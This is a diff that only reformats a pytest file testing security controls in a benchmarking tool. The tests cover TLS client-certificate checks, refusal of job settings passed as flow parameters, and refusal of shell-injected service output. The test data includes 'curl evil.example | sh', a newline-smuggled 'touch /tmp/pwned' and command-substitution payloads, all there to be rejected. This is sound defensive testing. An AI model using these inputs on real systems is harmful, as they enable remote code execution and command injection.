@@ -30,10 +30,13 @@ from aiperf.errors import UserError
 from aiperf.lifecycle.parameters import check_parameters
 
 REPO = Path(__file__).resolve().parents[1]
-SIMULATED = {"train.trainer": "simulated"}  # no framework in the workers: the cluster starts in a second
+SIMULATED = {
+    "train.trainer": "simulated"
+}  # no framework in the workers: the cluster starts in a second
 
 
 # --- TLS ----------------------------------------------------------------------------------------
+
 
 def _refused(address: str, security: Security | None) -> None:
     with pytest.raises(OSError):
@@ -46,7 +49,9 @@ def _handshake_without_a_certificate(address: str, ca: str) -> None:
     context = ssl.create_default_context(cadata=ca)
     context.check_hostname = False
     with socket.create_connection((host, int(port)), timeout=5) as raw:
-        with pytest.raises((ssl.SSLError, ConnectionError)):  # its alert, or the connection closed first
+        with pytest.raises(
+            (ssl.SSLError, ConnectionError)
+        ):  # its alert, or the connection closed first
             with context.wrap_socket(raw) as tls:
                 tls.sendall(b"\0" * 8)
                 tls.recv(1)  # TLS 1.3 reports a missing client certificate on the first read
@@ -62,14 +67,24 @@ def test_a_runs_scheduler_accepts_only_clients_with_its_certificate():
 
         _refused(address.replace("tls://", "tcp://"), None)  # no TLS at all
         other = Security.temporary()  # trusts this run's CA, but shows another certificate
-        _refused(address, Security(tls_ca_file=security.tls_ca_file, tls_client_cert=other.tls_client_cert,
-                                   tls_client_key=other.tls_client_key, require_encryption=True))
+        _refused(
+            address,
+            Security(
+                tls_ca_file=security.tls_ca_file,
+                tls_client_cert=other.tls_client_cert,
+                tls_client_key=other.tls_client_key,
+                require_encryption=True,
+            ),
+        )
         _handshake_without_a_certificate(address, security.tls_ca_file)
 
 
 def test_batch_jobs_read_the_certificate_from_private_files_not_from_their_script(tmp_path):
-    plan = job_plan(load_config("quick", workers=1, cluster="slurm"), "http://127.0.0.1:4200/api",
-                    log_directory=str(tmp_path / "jobs"))
+    plan = job_plan(
+        load_config("quick", workers=1, cluster="slurm"),
+        "http://127.0.0.1:4200/api",
+        log_directory=str(tmp_path / "jobs"),
+    )
     cluster = new_jobqueue_cluster(plan, tmp_path / "jobs")
     try:
         script = cluster.job_script()
@@ -87,23 +102,37 @@ def test_batch_jobs_read_the_certificate_from_private_files_not_from_their_scrip
 
 # --- what reaches a job script ------------------------------------------------------------------
 
-@pytest.mark.parametrize("overrides", [
-    {"cluster.prologue": ["curl evil.example | sh"]},
-    {"cluster": {"kind": "slurm", "prologue": ["id"]}},
-    {"cluster.queue": "debug"},
-    {"cluster.account": "me"},
-    {"cluster.memory": "8GB"},
-    {"cluster.interface": "eth0"},
-])
+
+@pytest.mark.parametrize(
+    "overrides",
+    [
+        {"cluster.prologue": ["curl evil.example | sh"]},
+        {"cluster": {"kind": "slurm", "prologue": ["id"]}},
+        {"cluster.queue": "debug"},
+        {"cluster.account": "me"},
+        {"cluster.memory": "8GB"},
+        {"cluster.interface": "eth0"},
+    ],
+)
 def test_job_settings_never_come_from_a_flow_parameter(overrides):
-    with pytest.raises(UserError, match="comes from the profile or `aiperf run --cluster-opt` only"):
+    with pytest.raises(
+        UserError, match="comes from the profile or `aiperf run --cluster-opt` only"
+    ):
         check_parameters(overrides=overrides)
 
 
 def test_parameters_may_choose_the_queue_kind_and_checked_numbers():
-    check_parameters(overrides={"cluster.kind": "slurm", "cluster.walltime": "00:10:00", "cluster.cores": 2,
-                                "cluster.gpus": 1, "cluster.workers_per_job": 1, "cluster.adaptive": True,
-                                "train.epochs": 2})
+    check_parameters(
+        overrides={
+            "cluster.kind": "slurm",
+            "cluster.walltime": "00:10:00",
+            "cluster.cores": 2,
+            "cluster.gpus": 1,
+            "cluster.workers_per_job": 1,
+            "cluster.adaptive": True,
+            "train.epochs": 2,
+        }
+    )
     check_parameters(config=object())  # `aiperf run` passes its whole config to its own flow run
     with pytest.raises(UserError, match="config is for `aiperf run` only"):
         check_parameters(config=object(), from_deployment=True)
@@ -115,16 +144,31 @@ def test_the_flow_refuses_a_prologue_parameter_before_anything_runs(prefect_api,
 
     marker = tmp_path / "ran"
     with pytest.raises(UserError, match="may not set cluster.prologue"):
-        benchmark(workers=1, cluster="slurm", out=str(tmp_path / "out"),
-                  overrides={"cluster.prologue": [f"touch {marker}"]})
+        benchmark(
+            workers=1,
+            cluster="slurm",
+            out=str(tmp_path / "out"),
+            overrides={"cluster.prologue": [f"touch {marker}"]},
+        )
     assert not marker.exists() and not (tmp_path / "out").exists()
 
 
-@pytest.mark.parametrize("setting", ["cluster.queue", "cluster.account", "cluster.memory", "cluster.interface",
-                                     "cluster.walltime", "out"])
+@pytest.mark.parametrize(
+    "setting",
+    [
+        "cluster.queue",
+        "cluster.account",
+        "cluster.memory",
+        "cluster.interface",
+        "cluster.walltime",
+        "out",
+    ],
+)
 def test_no_setting_written_into_a_job_script_holds_a_line_break(setting):
     with pytest.raises(UserError, match=f"invalid setting {setting}: must be one line"):
-        load_config("quick", workers=1, cluster="slurm", overrides={setting: "x\ntouch /tmp/pwned"})
+        load_config(
+            "quick", workers=1, cluster="slurm", overrides={setting: "x\ntouch /tmp/pwned"}
+        )
 
 
 def test_job_directives_refuse_an_out_folder_with_spaces(tmp_path):
@@ -135,6 +179,7 @@ def test_job_directives_refuse_an_out_folder_with_spaces(tmp_path):
 
 # --- the test services' scripts -----------------------------------------------------------------
 
+
 def _infra_copy(root: Path, service_output: str) -> Path:
     """infra/with-services.sh and infra/state.sh in `root`, with one service that prints `service_output`."""
     infra = root / "infra"
@@ -142,20 +187,35 @@ def _infra_copy(root: Path, service_output: str) -> Path:
     for name in ("with-services.sh", "state.sh"):
         shutil.copy(REPO / "infra" / name, infra / name)
     ctl = infra / "fake" / "ctl.sh"
-    ctl.write_text(f"#!/usr/bin/env bash\n[ \"$1\" = start ] && cat <<'EOF'\n{service_output}\nEOF\nexit 0\n")
+    ctl.write_text(
+        f"#!/usr/bin/env bash\n[ \"$1\" = start ] && cat <<'EOF'\n{service_output}\nEOF\nexit 0\n"
+    )
     ctl.chmod(0o755)
     return infra
 
 
 def test_with_services_exports_plain_lines_as_they_are(tmp_path):
-    infra = _infra_copy(tmp_path, "export AIPERF_FAKE_URL=postgresql+psycopg://postgres:0a1b@127.0.0.1:5/aiperf")
-    done = subprocess.run([infra / "with-services.sh", "printenv", "AIPERF_FAKE_URL"], capture_output=True, text=True)
+    infra = _infra_copy(
+        tmp_path, "export AIPERF_FAKE_URL=postgresql+psycopg://postgres:0a1b@127.0.0.1:5/aiperf"
+    )
+    done = subprocess.run(
+        [infra / "with-services.sh", "printenv", "AIPERF_FAKE_URL"], capture_output=True, text=True
+    )
     assert done.returncode == 0, done.stderr
     assert done.stdout.strip() == "postgresql+psycopg://postgres:0a1b@127.0.0.1:5/aiperf"
 
 
-@pytest.mark.parametrize("line", ["export X=$(touch {marker})", "export X=`touch {marker}`", "touch {marker}",
-                                  "export X=a; touch {marker}", "export lower={marker}", "export X='{marker} b'"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "export X=$(touch {marker})",
+        "export X=`touch {marker}`",
+        "touch {marker}",
+        "export X=a; touch {marker}",
+        "export lower={marker}",
+        "export X='{marker} b'",
+    ],
+)
 def test_with_services_refuses_anything_else_without_running_it(tmp_path, line):
     marker = tmp_path / "ran"
     infra = _infra_copy(tmp_path, line.format(marker=marker))
@@ -167,8 +227,12 @@ def test_with_services_refuses_anything_else_without_running_it(tmp_path, line):
 
 def _state(root: Path, command: str) -> subprocess.CompletedProcess:
     script = f'set -euo pipefail; . "{root / "infra" / "state.sh"}"; {command}'
-    return subprocess.run(["bash", "-c", script], capture_output=True, text=True,
-                          env={**os.environ, "TMPDIR": str(root)})
+    return subprocess.run(
+        ["bash", "-c", script],
+        capture_output=True,
+        text=True,
+        env={**os.environ, "TMPDIR": str(root)},
+    )
 
 
 def test_services_keep_their_files_in_a_private_folder_they_find_again(tmp_path):
